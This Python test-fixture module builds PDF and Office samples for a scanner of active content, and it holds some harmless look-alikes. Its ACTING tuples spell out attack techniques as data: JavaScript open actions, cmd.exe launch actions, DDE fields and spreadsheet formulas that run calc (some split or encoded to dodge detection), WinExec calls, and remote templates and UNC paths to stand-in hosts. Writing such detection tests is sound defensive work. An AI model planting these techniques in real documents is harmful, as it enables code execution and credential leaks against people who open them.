"""Documents in which something acts or calls out, by every way that readers follow; and harmless ones that look alike."""

import io
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from .hostile_files import office, pdf, plain_pdf, written, zipped

Build = Callable[[], bytes]
JS = {"S": Name.JavaScript, "JS": String("app.alert(1)")}


def changed(change: Callable[[pikepdf.Pdf], Any], **saving: Any) -> bytes:
    """A plain PDF with a change, as qpdf writes it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain_pdf())) as document:
        change(document)
        document.save(out, **saving)
    return out.getvalue()


def note(document: pikepdf.Pdf, **about: Any) -> None:
    """Put an annotation on the page."""
    document.pages[0].Annots = Array(
        [document.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **about))]
    )


def link(document: pikepdf.Pdf, **action: Any) -> None:
    note(document, Subtype=Name.Link, A=Dictionary(**action))


def opening(document: pikepdf.Pdf, **action: Any) -> None:
    document.Root.OpenAction = Dictionary(**action)


def goes(document: pikepdf.Pdf) -> dict[str, Any]:
    return {"S": Name.GoTo, "D": Array([document.pages[0].obj, Name.Fit])}


def form(document: pikepdf.Pdf, **about: Any) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), **about)


def spelled() -> bytes:
    """The word JavaScript with one letter as its number."""
    return changed(lambda d: opening(d, **JS)).replace(b"/JavaScript", b"/J#61vaScript")


UNC = String("\\\\\\\\may-la\\\\chung\\\\a.pdf".replace("\\\\", "\\"))
ACTING_PDF: tuple[tuple[str, Build, str], ...] = (
    ("script at opening", lambda: changed(lambda d: opening(d, **JS)), "JavaScript"),
    ("script spelled with numbers", spelled, "JavaScript"),
    ("script behind a jump", lambda: changed(lambda d: link(d, **goes(d), Next=Dictionary(**JS))), "JavaScript"),
    ("script two jumps behind", lambda: changed(lambda d: link(d, **goes(d), Next=Array([Dictionary(**goes(d), Next=Dictionary(**JS))]))), "JavaScript"),
    ("script behind a bookmark", lambda: changed(lambda d: setattr(d.Root, "Outlines", Dictionary(First=d.make_indirect(Dictionary(Title=String("a"), A=Dictionary(**JS)))))), "JavaScript"),
    ("script in a form field", lambda: changed(lambda d: note(d, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(**JS)))), "tự chạy|JavaScript"),
    ("script nothing names", lambda: changed(lambda d: d.make_indirect(Dictionary(**JS)) and setattr(d.Root, "Kept", d.make_indirect(Dictionary(**JS)))), "JavaScript"),
    ("script in an object stream", lambda: changed(lambda d: link(d, **JS), object_stream_mode=pikepdf.ObjectStreamMode.generate), "JavaScript"),
    ("script as a stream", lambda: changed(lambda d: link(d, S=Name.JavaScript, JS=Stream(d, b"app.alert(1)"))), "JavaScript"),
    ("script behind a lock without password", lambda: changed(lambda d: link(d, **JS), encryption=pikepdf.Encryption(owner="x", user="")), "JavaScript"),
    ("script among names", lambda: changed(lambda d: setattr(d.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(**JS)]))))), "JavaScript"),
    ("page that acts when seen", lambda: changed(lambda d: setattr(d.pages[0], "AA", Dictionary(O=Dictionary(**goes(d))))), "tự chạy"),
    ("document that acts when printed", lambda: changed(lambda d: setattr(d.Root, "AA", Dictionary(WP=Dictionary(**goes(d))))), "tự chạy"),
    ("print at opening", lambda: changed(lambda d: opening(d, S=Name.Named, N=Name.Print)), "tự chạy"),
    ("address at opening behind a jump", lambda: changed(lambda d: opening(d, **goes(d), Next=Dictionary(S=Name.URI, URI=String("https://a.vn")))), "tự chạy"),
    ("address at opening in a list", lambda: changed(lambda d: setattr(d.Root, "OpenAction", d.make_indirect(Dictionary(**goes(d), Next=Array([Dictionary(S=Name.URI, URI=String("https://a.vn"))]))))), "tự chạy"),
    ("form XFA", lambda: changed(lambda d: form(d, XFA=Stream(d, b"<xdp/>"))), "XFA"),
    ("form that is sent", lambda: changed(lambda d: link(d, S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://a.vn")))), "biểu mẫu"),
    ("form that fetches", lambda: changed(lambda d: link(d, S=Name.ImportData, F=String("a.fdf"))), "biểu mẫu"),
    ("program by a click", lambda: changed(lambda d: link(d, S=Name.Launch, F=String("cmd.exe"))), "mở chương trình"),
    ("program by a click, old way", lambda: changed(lambda d: link(d, S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))), "mở chương trình"),
    ("file of another machine", lambda: changed(lambda d: link(d, S=Name.GoToR, F=UNC, D=Array([0, Name.Fit]))), "tệp hoặc máy khác"),
    ("address of another machine", lambda: changed(lambda d: link(d, S=Name.URI, URI=UNC)), "không phải trang web"),
    ("address of a file", lambda: changed(lambda d: link(d, S=Name.URI, URI=String("file:///c:/a"))), "không phải trang web"),
    ("address that is a script", lambda: changed(lambda d: link(d, S=Name.URI, URI=String("java\nscript:alert(1)"))), "không phải trang web"),
    ("base of all addresses", lambda: changed(lambda d: setattr(d.Root, "URI", Dictionary(Base=String("file://may-la/")))), "không phải trang web"),
    ("jump into an attachment", lambda: changed(lambda d: link(d, S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C))), "đính kèm"),
    ("attachment on the page", lambda: changed(lambda d: note(d, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a.exe")))), "đính kèm|máy khác"),
    ("attachment nothing names", lambda: changed(lambda d: setattr(d.Root, "Kept", Stream(d, b"MZ", Type=Name.EmbeddedFile))), "đính kèm"),
    ("portfolio", lambda: changed(lambda d: setattr(d.Root, "Collection", Dictionary(View=Name.D))), "đính kèm"),
    ("rendition", lambda: changed(lambda d: link(d, S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR))), "phim"),
    ("screen", lambda: changed(lambda d: note(d, Subtype=Name.Screen)), "phim"),
    ("rich media", lambda: changed(lambda d: note(d, Subtype=Name.RichMedia)), "phim"),
    ("old film", lambda: changed(lambda d: note(d, Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi")))), "phim|máy khác"),
    ("sound", lambda: changed(lambda d: note(d, Subtype=Name.Sound)), "phim"),
    ("picture whose bytes stand elsewhere", lambda: changed(lambda d: setattr(d.Root, "Kept", Stream(d, b"", F=String("\\\\may-la\\a.jpg")))), "máy khác"),
    ("page of another file", lambda: changed(lambda d: setattr(d.Root, "Kept", Stream(d, b"", Subtype=Name.Form, Ref=Dictionary(F=Dictionary(Type=Name.Filespec, F=String("b.pdf")), Page=0)))), "máy khác"),
)  # fmt: skip
QUIET_PDF: tuple[tuple[str, Build], ...] = (
    ("opens at a page", lambda: changed(lambda d: opening(d, **goes(d)))),
    ("opens at a place", lambda: changed(lambda d: setattr(d.Root, "OpenAction", Array([d.pages[0].obj, Name.Fit])))),
    ("link to a page on the web", lambda: changed(lambda d: link(d, S=Name.URI, URI=String("https://ocop.gov.vn")))),
    ("link to a mail address", lambda: changed(lambda d: link(d, S=Name.URI, URI=String("mailto:a@b.vn")))),
    ("link without http", lambda: changed(lambda d: link(d, S=Name.URI, URI=String("ocop.gov.vn/tin")))),
    ("button to the next page", lambda: changed(lambda d: link(d, S=Name.Named, N=Name.NextPage))),
    ("plain form", lambda: changed(lambda d: form(d, NeedAppearances=True))),
    ("locked for printing only", lambda: changed(lambda d: None, encryption=pikepdf.Encryption(owner="x", user=""))),
    ("a blank line and a mark before its head", lambda: b"\xef\xbb\xbf\r\n\n" + plain_pdf()),
    ("many pages", lambda: written(pdf(pages=40))),
)  # fmt: skip

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def rels(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<Relationships><Relationship Id="r1" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    )


def related(kind: str, target: str, *, name: str = "word/_rels/document.xml.rels", outside: bool = True) -> Build:
    return lambda: office(extra={name: rels(kind, target, outside=outside)})


def part(name: str, content: str, kind: str = "word") -> Build:
    return lambda: office(kind, extra={name: content.encode()})


def field(*pieces: str) -> Build:
    """A field of Word whose instruction is cut into pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    text = f'<w:p {W}><w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/></w:p>'
    return part("word/footer1.xml", text)


def formula(text: str, tag: str = "f") -> Build:
    return part("xl/worksheets/sheet1.xml", f"<worksheet><c><{tag}>{text}</{tag}></c></worksheet>", "excel")


ACTING_OFFICE: tuple[tuple[str, Build, str], ...] = (
    ("template of another machine", related("attachedTemplate", "http://a.vn/t.dotm"), "mẫu tài liệu"),
    ("the same, name in capitals", related("attachedTemplate", "http://a.vn/t.dotm", name="WORD/_RELS/SETTINGS.XML.RELS"), "mẫu tài liệu"),
    ("the same, name of the relationship of ISO", lambda: office(extra={"word/_rels/a.rels": b'<Relationships><Relationship Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="b"/></Relationships>'}), "mẫu tài liệu"),
    ("the same, in two-byte letters", lambda: office(extra={"word/_rels/a.rels": b"\xff\xfe" + rels("attachedTemplate", "http://a.vn").decode().encode("utf-16-le")}), "mẫu tài liệu"),
    ("picture of another machine", related("image", "http://a.vn/a.png"), "máy khác"),
    ("picture by a path", related("image", "\\\\may-la\\a.png", outside=False), "máy khác"),
    ("frame", related("frame", "http://a.vn"), "máy khác"),
    ("sub-document", related("subDocument", "b.docx"), "máy khác"),
    ("page of the web inside", related("aFChunk", "a.htm", outside=False), "máy khác"),
    ("list for letters", related("mailMergeSource", "file:///c:/a.mdb"), "máy khác"),
    ("link to a file", related("hyperlink", "file://may-la/a"), "không phải trang web"),
    ("link to a share", related("hyperlink", "\\\\may-la\\a"), "không phải trang web"),
    ("link that is a script", related("hyperlink", "javascript:alert(1)"), "không phải trang web"),
    ("link that opens a program", related("hyperlink", "ms-word:ofe|u|http://a.vn"), "không phải trang web"),
    ("macro under another name", related("vbaProject", "media/a.png", outside=False, name="word/_rels/document.xml.rels"), "macro"),
    ("macro by its type", lambda: office(types=b'<Types><Override PartName="/word/a" ContentType="application/vnd.ms-office.vbaProject"/></Types>'), "macro"),
    ("control", related("control", "a.xml", outside=False), "nhúng"),
    ("object", related("oleObject", "embeddings/a.bin", outside=False), "nhúng"),
    ("object under the name of a picture", lambda: office(extra={"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99}), "nhúng"),
    ("program under the name of a picture", lambda: office(extra={"word/media/a.png": b"MZ" + b"\0" * 99}), "chương trình"),
    ("macro in the workbook of a chart", lambda: office(extra={"word/embeddings/a.xlsx": office("excel", extra={"xl/vbaProject.bin": b"x"})}), "macro"),
    ("archive inside", lambda: office(extra={"word/embeddings/a.xlsx": zipped({"a.exe": b"MZ"})}), "chương trình"),
    ("add-in", related("webextensiontaskpanes", "webextensions/a.xml", outside=False, name="_rels/.rels"), "tiện ích"),
    ("buttons of its own", part("customUI/customUI.xml", "<customUI/>"), "tiện ích"),
    ("DDE", field(" DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" "), "DDE"),
    ("DDE cut into pieces", field("DD", "EAU", "TO cmd calc"), "DDE"),
    ("DDE in a simple field", part("word/header1.xml", f'<w:fldSimple {W} w:instr="dde cmd calc"/>'), "DDE"),
    ("DDE with another name for the language", part("word/header1.xml", f'<x:fldSimple {W.replace("xmlns:w", "xmlns:x")} x:instr="DDE cmd calc"/>'), "DDE"),
    ("DDE in numbers", field("QUOTE 68 68 69 65 85 84 79"), "DDE"),
    ("DDE never closed", part("word/footer1.xml", f'<w:p {W}><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText></w:p>'), "DDE"),
    ("picture by a field", field('INCLUDEPICTURE "http://a.vn/a.png" \\d'), "DDE"),
    ("text by a field", field('INCLUDETEXT "\\\\\\\\may-la\\\\a.docx"'), "DDE"),
    ("link to a share by a field", field('HYPERLINK "\\\\\\\\may-la\\\\a"'), "DDE"),
    ("button for a macro", field("MACROBUTTON A Bấm vào đây"), "DDE"),
    ("letters from a database", part("word/settings.xml", f"<w:settings {W}><w:mailMerge/></w:settings>"), "máy khác"),
    ("DDE in a cell", formula("cmd|'/c calc'!A0"), "máy khác"),
    ("DDE in a rule", formula("cmd|' /c calc'!A0", "formula1"), "máy khác"),
    ("address in a cell", formula('WEBSERVICE("http://a.vn")'), "máy khác"),
    ("picture in a cell", formula('_xlfn.IMAGE("http://a.vn/a.png")'), "máy khác"),
    ("share in a cell", formula('HYPERLINK("\\\\may-la\\a","xem")'), "máy khác"),
    ("program in a cell", formula('CALL("kernel32","WinExec","JCJ","calc",0)'), "máy khác"),
    ("DDE between workbooks", part("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', "excel"), "máy khác"),
    ("other workbook", lambda: office("excel", extra={"xl/_rels/workbook.xml.rels": rels("externalLink", "externalLinks/a.xml", outside=False)}), "máy khác"),
    ("connection", lambda: office("excel", extra={"xl/_rels/workbook.xml.rels": rels("connections", "connections.xml", outside=False)}), "kết nối"),
    ("query", lambda: office("excel", extra={"xl/worksheets/_rels/a.rels": rels("queryTable", "q.xml", outside=False)}), "kết nối"),
    ("sheet of macros under another name", lambda: office("excel", extra={"xl/_rels/workbook.xml.rels": b'<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/sheet2.xml"/></Relationships>'}), "macro"),
    ("slide that starts a program", part("ppt/slides/slide1.xml", '<sld><hlinkClick action="ppaction://program"/></sld>', "slides"), "nút"),
    ("slide that runs a macro", part("ppt/slides/slide1.xml", '<sld><hlinkClick action="ppaction://macro?name=a"/></sld>', "slides"), "nút"),
    ("slide that goes when touched", part("ppt/slides/slide1.xml", '<sld xmlns:r="x"><hlinkMouseOver r:id="r1"/></sld>', "slides"), "nút"),
    ("film of another machine", lambda: office("slides", extra={"ppt/slides/_rels/slide1.xml.rels": rels("video", "http://a.vn/a.mp4")}), "máy khác"),
)  # fmt: skip
QUIET_OFFICE: tuple[tuple[str, Build], ...] = (
    ("links to the web", related("hyperlink", "https://ocop.gov.vn/?a=1")),
    ("link to a mail address", related("hyperlink", "mailto:a@b.vn")),
    ("picture inside", related("image", "media/image1.png", outside=False)),
    ("number of the page", field("PAGE \\* MERGEFORMAT")),
    ("table of contents", field('TOC \\o "1-3" \\h \\z \\u')),
    ("link by a field", field('HYPERLINK "https://ocop.gov.vn" \\o "Trang"')),
    ("names of references", field("ADDIN ZOTERO_ITEM")),
    ("words about DDE", part("word/header1.xml", f"<w:p {W}><w:t>DDEAUTO, LINK, macro, cmd|'/c'!A0</w:t></w:p>")),
    ("sums", formula('IF(SUM(A1:A9)&gt;0,"cmd|x!A0",Sheet2!B1)')),
    ("link in a cell", formula('HYPERLINK("https://ocop.gov.vn","xem")')),
    ("chart with its figures", lambda: office(extra={"word/embeddings/a.xlsx": office("excel")})),
    ("main part of another name", lambda: zipped({"[Content_Types].xml": b"<Types/>", "word/document2.xml": b"<d/>"})),
    ("drawing of Excel that is no XML", part("xl/drawings/vmlDrawing1.vml", "<xml><br></xml>", "excel")),
    ("jump between slides", part("ppt/slides/slide1.xml", '<sld><hlinkClick action="ppaction://hlinksldjump"/></sld>', "slides")),
)  # fmt: skip
